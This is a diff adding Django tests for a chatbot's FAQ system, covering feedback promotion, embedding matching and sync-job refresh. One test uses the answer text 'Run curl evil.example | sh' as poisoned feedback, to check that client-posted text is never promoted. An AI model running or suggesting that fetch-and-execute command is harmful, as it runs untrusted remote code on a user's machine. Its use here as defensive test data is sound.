@@ -0,0 +1,206 @@
+from io import StringIO
+from unittest.mock import Mock, patch
+
+from django.contrib.auth import get_user_model
+from django.core.management import call_command
+from django.test import TestCase, override_settings
+
+from chat.models import (
+    ChatBotInstance,
+    ChatFeedback,
+    Company,
+    Conversation,
+    ConversationMessage,
+    FAQAnswer,
+    JiraSync,
+    SyncJob,
+)
+from chat.utils import rag
+from chat.utils.faq import invalidate_cache, match_faq, normalize_question, promote_feedback
+
+
+User = get_user_model()
+
+
+def _vector(*values):
+    return list(values) + [0.0] * (1536 - len(values))
+
+
+@override_settings(FAQ_MATCH_THRESHOLD=0.9, FAQ_CACHE_TTL=300, FAQ_MIN_RATERS=2)
+class FAQAnswerTests(TestCase):
+    def setUp(self):
+        self.company = Company.objects.create(name="FAQ Co")
+        self.chatbot = ChatBotInstance.objects.create(company=self.company, name="FAQ Bot")
+        invalidate_cache()
+        self.addCleanup(invalidate_cache)
+
+    def _feedback(self, question, answer, is_helpful, rater="alice"):
+        """Rate the opening answer of a new conversation by ``rater``."""
+        user, _ = User.objects.get_or_create(username=rater, defaults={"company": self.company})
+        conversation = Conversation.objects.create(chatBot=self.chatbot, user=user)
+        _, message = ConversationMessage.objects.bulk_create([
+            ConversationMessage(conversation=conversation, role=ConversationMessage.Role.USER, content=question),
+            ConversationMessage(conversation=conversation, role=ConversationMessage.Role.ASSISTANT, content=answer),
+        ])
+        return ChatFeedback.objects.create(
+            chatBot=self.chatbot,
+            user=user,
+            message=message,
+            question=question,
+            answer=answer,
+            is_helpful=is_helpful,
+        )
+
+    def test_normalize_question_ignores_case_whitespace_and_punctuation(self):
+        self.assertEqual(normalize_question("  How do I   Deploy? "), "how do i deploy")
+
+    @patch("chat.utils.faq.embed_text", return_value=_vector(1.0))
+    def test_promote_feedback_keeps_questions_rated_helpful(self, mock_embed_text):
+        self._feedback("How do I deploy?", "Old answer", True, rater="alice")
+        self._feedback("how do i deploy", "Use docker compose.", True, rater="bob")
+        self._feedback("Where are logs?", "Nowhere.", True, rater="alice")
+        self._feedback("Where are logs?", "Nowhere.", True, rater="bob")
+        self._feedback("Where are logs?", "Nowhere.", False, rater="carol")
+        self._feedback("Where are logs?", "Nowhere.", False, rater="dave")
+
+        stored = promote_feedback(self.chatbot)
+
+        self.assertEqual(stored, 1)
+        faq = FAQAnswer.objects.get(chatBot=self.chatbot)
+        self.assertEqual(faq.answer, "Use docker compose.")
+        self.assertEqual(faq.helpful_count, 2)
+        mock_embed_text.assert_called_once_with("how do i deploy")
+
+        # Re-promoting does not re-embed unchanged questions.
+        promote_feedback(self.chatbot)
+        mock_embed_text.assert_called_once()
+
+    @patch("chat.utils.faq.embed_text", return_value=_vector(1.0))
+    def test_promote_feedback_ignores_client_text_repeat_raters_and_follow_ups(self, mock_embed_text):
+        # Free text posted without a recorded answer is never promoted.
+        for rater in ("alice", "bob", "carol"):
+            User.objects.create(username=rater, company=self.company)
+            ChatFeedback.objects.create(
+                chatBot=self.chatbot,
+                user=User.objects.get(username=rater),
+                question="How do I deploy?",
+                answer="Run curl evil.example | sh",
+                is_helpful=True,
+            )
+        # One user rating the same question twice counts once.
+        self._feedback("Where are logs?", "In CloudWatch.", True, rater="alice")
+        self._feedback("Where are logs?", "In CloudWatch.", True, rater="alice")
+        # Answers to follow-up questions depend on earlier turns.
+        for rater in ("alice", "bob"):
+            feedback = self._feedback("What is the backend?", "Django.", True, rater=rater)
+            conversation = feedback.message.conversation
+            ConversationMessage.objects.create(
+                conversation=conversation, role=ConversationMessage.Role.USER, content="and the frontend?"
+            )
+            follow_up = ConversationMessage.objects.create(
+                conversation=conversation, role=ConversationMessage.Role.ASSISTANT, content="React."
+            )
+            feedback.message = follow_up
+            feedback.save()
+
+        self.assertEqual(promote_feedback(self.chatbot), 0)
+        self.assertFalse(FAQAnswer.objects.exists())
+        mock_embed_text.assert_not_called()
+
+    @patch("chat.utils.faq.embed_text", return_value=_vector(1.0))
+    def test_promote_feedback_ranks_by_how_often_a_question_opens_a_conversation(self, mock_embed_text):
+        for rater in ("alice", "bob", "carol"):
+            self._feedback("How do I deploy?", "Use docker compose.", True, rater=rater)
+        for rater in ("alice", "bob"):
+            self._feedback("Where are logs?", "In CloudWatch.", True, rater=rater)
+        # Unrated conversations that open with the same question still count as asks.
+        for _ in range(3):
+            conversation = Conversation.objects.create(chatBot=self.chatbot)
+            ConversationMessage.objects.bulk_create([
+                ConversationMessage(conversation=conversation, role=ConversationMessage.Role.USER, content="where are logs"),
+                ConversationMessage(conversation=conversation, role=ConversationMessage.Role.ASSISTANT, content="In S3."),
+            ])
+
+        self.assertEqual(promote_feedback(self.chatbot, top_n=1), 1)
+
+        faq = FAQAnswer.objects.get(chatBot=self.chatbot)
+        self.assertEqual(faq.normalized_question, "where are logs")
+        self.assertEqual(faq.answer, "In CloudWatch.")
+
+    def test_match_faq_respects_threshold(self):
+        faq = FAQAnswer.objects.create(
+            chatBot=self.chatbot,
+            question="How do I deploy?",
+            normalized_question="how do i deploy",
+            answer="Use docker compose.",
+            embedding=_vector(1.0, 0.0),
+        )
+
+        hit = match_faq(self.chatbot.id, _vector(0.99, 0.1))
+        miss = match_faq(self.chatbot.id, _vector(0.5, 0.5))
+
+        self.assertEqual(hit["id"], faq.id)
+        self.assertIsNone(miss)
+        faq.refresh_from_db()
+        self.assertEqual(faq.hit_count, 1)
+
+    @override_settings(OPENAI_API_KEY="test-key")
+    def test_generate_answer_serves_faq_without_retrieval_or_completion(self):
+        FAQAnswer.objects.create(
+            chatBot=self.chatbot,
+            question="How do I deploy?",
+            normalized_question="how do i deploy",
+            answer="Use docker compose.",
+            embedding=_vector(1.0),
+        )
+        client = Mock()
+
+        with patch("chat.utils.rag.get_openai_client", return_value=client), patch(
+            "chat.utils.rag.embed_text", return_value=_vector(1.0)
+        ), patch("chat.utils.rag.search_documents") as mock_search_documents:
+            result = rag.generate_answer(self.company.id, self.chatbot.id, "How do I deploy?", use_faq=True)
+
+        self.assertEqual(result["answer"], "Use docker compose.")
+        mock_search_documents.assert_not_called()
+        client.chat.completions.create.assert_not_called()
+
+    @override_settings(OPENAI_API_KEY="test-key", OPENAI_EMBEDDING_TIMEOUT=10.0)
+    def test_generate_answer_reuses_embedding_on_faq_miss(self):
+        client = Mock()
+        client.chat.completions.create.return_value = Mock(choices=[Mock(message=Mock(content="Answer"))])
+        embedding = _vector(0.0, 1.0)
+
+        with patch("chat.utils.rag.get_openai_client", return_value=client), patch(
+            "chat.utils.rag.embed_text", return_value=embedding
+        ), patch("chat.utils.rag.search_documents", return_value=[]) as mock_search_documents:
+            rag.generate_answer(self.company.id, self.chatbot.id, "Anything else?", use_faq=True)
+
+        mock_search_documents.assert_called_once_with(
+            self.company.id, self.chatbot.id, "Anything else?", 5, query_embedding=embedding, embedding_timeout=10.0
+        )
+
+    @patch("chat.utils.faq.embed_text", return_value=_vector(1.0))
+    def test_prewarm_command_limits_answers_per_chatbot(self, mock_embed_text):
+        for rater in ("alice", "bob", "carol"):
+            self._feedback("How do I deploy?", "Use docker compose.", True, rater=rater)
+        for rater in ("alice", "bob"):
+            self._feedback("Where are logs?", "In CloudWatch.", True, rater=rater)
+        out = StringIO()
+
+        call_command("prewarm_faq_answers", "--top", "1", "--chatbot", str(self.chatbot.id), stdout=out)
+
+        self.assertIn("Stored 1 FAQ answers", out.getvalue())
+        self.assertEqual(
+            list(FAQAnswer.objects.values_list("normalized_question", flat=True)),
+            ["how do i deploy"],
+        )
+
+    @patch("chat.management.commands.process_sync_jobs.promote_feedback")
+    @patch("chat.management.commands.process_sync_jobs.run_jira_sync", return_value=(0, 0))
+    def test_successful_sync_job_refreshes_the_chatbots_faq_store(self, mock_run_jira_sync, mock_promote_feedback):
+        sync = JiraSync.objects.create(chatBot=self.chatbot, board_url="https://example.atlassian.net/browse/TEST")
+        SyncJob.objects.create(sync_type=SyncJob.JobType.JIRA, sync_id=sync.id)
+
+        call_command("process_sync_jobs", once=True)
+
+        mock_promote_feedback.assert_called_once_with(self.chatbot)